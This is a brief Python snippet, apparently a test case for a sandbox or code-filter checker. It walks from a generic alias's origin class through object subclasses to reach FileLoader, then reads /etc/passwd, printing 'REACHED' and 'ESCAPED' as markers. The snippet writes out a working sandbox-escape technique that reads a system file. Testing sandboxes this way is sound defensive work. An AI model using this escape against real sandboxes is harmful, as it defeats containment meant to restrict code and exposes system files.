# tries: a generic alias knows its origin, and that its base
# class: walk
# stops: 1 2 3 4
for c in list[int].__origin__.__base__.__subclasses__():
    if c.__name__ == "FileLoader":
        print("REACHED")
        if b"root:" in c("x", "y").get_data("/etc/passwd"):
            print("ESCAPED")
